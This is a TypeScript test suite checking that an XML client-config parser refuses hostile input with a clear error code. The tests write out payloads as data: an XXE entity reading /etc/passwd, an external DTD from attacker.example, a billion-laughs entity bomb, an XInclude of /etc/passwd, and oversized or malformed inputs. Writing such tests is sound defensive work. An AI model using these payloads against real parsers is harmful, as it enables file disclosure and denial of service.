import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseClientConfig } from '../validate.js';
import type { ProblemCode } from '../problems/codes.js';

const NS = 'https://vigie.dev/schemas/client/v1alpha1';

function firstProblem(input: Uint8Array | string): {
  code: ProblemCode;
  line: number;
  column: number;
  message: string;
} {
  const result = parseClientConfig(input);
  assert.equal(result.ok, false, 'hostile input must be refused');
  const [problem] = result.problems;
  assert.ok(problem);
  return problem;
}

describe('hostile XML is refused with one clear problem', () => {
  it('refuses external entities without reading the file they name', () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE client [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<client xmlns="${NS}" id="a" name="&xxe;" timezone="UTC"/>`;
    const problem = firstProblem(xxe);
    assert.equal(problem.code, 'VIGIE_E_XML_DOCTYPE');
    assert.equal(problem.line, 2);
    assert.doesNotMatch(problem.message, /root:/);
  });

  it('refuses external DTDs', () => {
    const problem = firstProblem(
      `<!DOCTYPE client SYSTEM "http://attacker.example/evil.dtd">\n<client xmlns="${NS}"/>`,
    );
    assert.equal(problem.code, 'VIGIE_E_XML_DOCTYPE');
  });

  it('refuses entity expansion bombs before expanding anything', () => {
    const levels = Array.from({ length: 10 }, (_, i) =>
      i === 0
        ? '<!ENTITY lol0 "lol">'
        : `<!ENTITY lol${String(i)} "${`&lol${String(i - 1)};`.repeat(10)}">`,
    ).join('\n');
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${levels}\n]>\n<client xmlns="${NS}" name="&lol9;"/>`;
    assert.equal(firstProblem(bomb).code, 'VIGIE_E_XML_DOCTYPE');
  });

  it('refuses undeclared entities', () => {
    const problem = firstProblem(
      `<client xmlns="${NS}" id="a" name="caf&eacute;" timezone="UTC"/>`,
    );
    assert.equal(problem.code, 'VIGIE_E_XML_ENTITY');
  });

  it('refuses XInclude', () => {
    const doc = `<client xmlns="${NS}" xmlns:xi="http://www.w3.org/2001/XInclude" id="a" name="a" timezone="UTC">\n  <xi:include href="/etc/passwd" parse="text"/>\n</client>`;
    const problem = firstProblem(doc);
    assert.equal(problem.code, 'VIGIE_E_XML_XINCLUDE');
    assert.deepEqual([problem.line, problem.column], [2, 3]);
  });

  it('refuses very deep nesting', () => {
    const depth = 100_000;
    const doc = `<client xmlns="${NS}">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</client>`;
    assert.equal(firstProblem(doc).code, 'VIGIE_E_XML_TOO_DEEP');
  });

  it('refuses files over the size limit without parsing them', () => {
    const big = new Uint8Array(5 * 1024 * 1024).fill(0x20);
    assert.equal(firstProblem(big).code, 'VIGIE_E_INPUT_TOO_LARGE');
  });

  it('refuses very large attributes', () => {
    const doc = `<client xmlns="${NS}" id="a" name="${'x'.repeat(100_000)}" timezone="UTC"/>`;
    assert.equal(firstProblem(doc).code, 'VIGIE_E_XML_VALUE_TOO_LARGE');
  });

  it('refuses documents with too many elements', () => {
    const doc = `<client xmlns="${NS}">${'<a/>'.repeat(300_000)}</client>`;
    assert.equal(firstProblem(doc).code, 'VIGIE_E_XML_TOO_MANY_NODES');
  });

  it('refuses invalid UTF-8 and says where it is', () => {
    const bytes = new TextEncoder().encode(`<client xmlns="${NS}"\n  name="caf?"/>`);
    bytes[bytes.indexOf(0x3f)] = 0xe9; // Latin-1 "é", invalid as UTF-8
    const problem = firstProblem(bytes);
    assert.equal(problem.code, 'VIGIE_E_INPUT_ENCODING');
    assert.deepEqual([problem.line, problem.column], [2, 12]);
  });

  it('refuses overlong UTF-8 encodings and surrogates', () => {
    assert.equal(firstProblem(new Uint8Array([0x3c, 0xc0, 0xbc])).code, 'VIGIE_E_INPUT_ENCODING');
    assert.equal(
      firstProblem(new Uint8Array([0x3c, 0xed, 0xa0, 0x80])).code,
      'VIGIE_E_INPUT_ENCODING',
    );
  });

  it('refuses UTF-16 and non-UTF-8 declarations', () => {
    assert.equal(
      firstProblem(new Uint8Array([0xff, 0xfe, 0x3c, 0x00])).code,
      'VIGIE_E_INPUT_ENCODING',
    );
    assert.equal(
      firstProblem(`<?xml version="1.0" encoding="ISO-8859-1"?><client/>`).code,
      'VIGIE_E_INPUT_ENCODING',
    );
  });

  it('refuses binary junk', () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]);
    assert.equal(firstProblem(png).code, 'VIGIE_E_INPUT_BINARY');
    assert.equal(
      firstProblem(new Uint8Array([0x3c, 0x61, 0x00, 0x3e])).code,
      'VIGIE_E_INPUT_BINARY',
    );
  });

  it('reports syntax errors at their position', () => {
    const problem = firstProblem(
      `<client xmlns="${NS}">\n  <contact name="a" email="b>\n</client>`,
    );
    assert.equal(problem.code, 'VIGIE_E_XML_SYNTAX');
    assert.equal(problem.line >= 2, true);
  });

  it('refuses empty files and files that are not XML', () => {
    assert.equal(firstProblem('').code, 'VIGIE_E_XML_SYNTAX');
    assert.equal(firstProblem('{"id": "json-is-not-xml"}').code, 'VIGIE_E_XML_SYNTAX');
  });

  it('accepts a UTF-8 byte-order mark', () => {
    const doc = new TextEncoder().encode(`\uFEFF<client xmlns="${NS}"/>`);
    const result = parseClientConfig(doc);
    assert.equal(result.ok, false);
    assert.notEqual(result.problems[0]?.code, 'VIGIE_E_INPUT_ENCODING');
  });

  it('refuses very long element names without slowing down', () => {
    const problem = firstProblem(`<client${'a'.repeat(400_000)} x="1"/>`);
    assert.equal(problem.code, 'VIGIE_E_XML_VALUE_TOO_LARGE');
    assert.ok(problem.message.length < 200);
  });

  it('stays linear on text after many comments', () => {
    const doc = `<client xmlns="${NS}">${' '.repeat(60_000)}${'<!---->x'.repeat(300_000)}</client>`;
    assert.equal(firstProblem(doc).code, 'VIGIE_E_XML_TOO_MANY_NODES');
  });

  it('refuses XML 1.1, whose control characters would slip through', () => {
    const problem = firstProblem(`<?xml version="1.1"?><client xmlns="${NS}" name="A&#x1;B"/>`);
    assert.equal(problem.code, 'VIGIE_E_XML_SYNTAX');
    assert.match(problem.message, /version/);
  });

  it('reports an unfinished DOCTYPE as a DOCTYPE', () => {
    const problem = firstProblem('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">');
    assert.equal(problem.code, 'VIGIE_E_XML_DOCTYPE');
  });
});

function problemWith(code: ProblemCode, input: string) {
  const result = parseClientConfig(input);
  const found = result.ok ? undefined : result.problems.find((p) => p.code === code);
  assert.ok(found, `expected ${code} in ${JSON.stringify(result)}`);
  return found;
}

describe('positions', () => {
  it('count lines ended by CR alone and by CRLF', () => {
    for (const eol of ['\r', '\r\n']) {
      const doc = `<client xmlns="${NS}"${eol}${eol}  bogus="1"/>`;
      const problem = problemWith('VIGIE_E_SCHEMA_UNKNOWN_ATTRIBUTE', doc);
      assert.deepEqual([problem.line, problem.column], [3, 3]);
    }
  });

  it('place text after a comment where the text is', () => {
    const doc = `<client xmlns="${NS}">\n  <!-- note -->junk\n</client>`;
    const problem = problemWith('VIGIE_E_SCHEMA_TEXT', doc);
    assert.deepEqual([problem.line, problem.column], [2, 16]);
  });

  it('count columns of invalid bytes in characters, after a byte-order mark', () => {
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('<a b="é'), 0xff]);
    const problem = firstProblem(bytes);
    assert.deepEqual(
      [problem.code, problem.line, problem.column],
      ['VIGIE_E_INPUT_ENCODING', 1, 8],
    );
  });

  it('treat text input like bytes: binary characters are refused', () => {
    assert.equal(
      firstProblem(`<client xmlns="${NS}">\u0001</client>`).code,
      'VIGIE_E_INPUT_BINARY',
    );
  });
});
